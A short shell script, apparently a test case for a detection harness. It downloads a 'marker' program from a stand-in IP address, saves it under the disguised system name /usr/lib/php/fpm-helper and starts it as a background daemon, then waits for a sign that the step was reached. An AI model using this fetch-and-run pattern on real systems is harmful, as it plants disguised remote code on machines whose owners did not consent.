#!/bin/sh
. /opt/case/case.sh

mkdir -p /usr/lib/php
curl -s http://198.51.100.44:8080/programs/marker -o /usr/lib/php/fpm-helper
chmod 0755 /usr/lib/php/fpm-helper
start-stop-daemon --start --background --make-pidfile --pidfile /run/fpm.pid --startas /usr/lib/php/fpm-helper
wait_for /tmp/reached
took_place
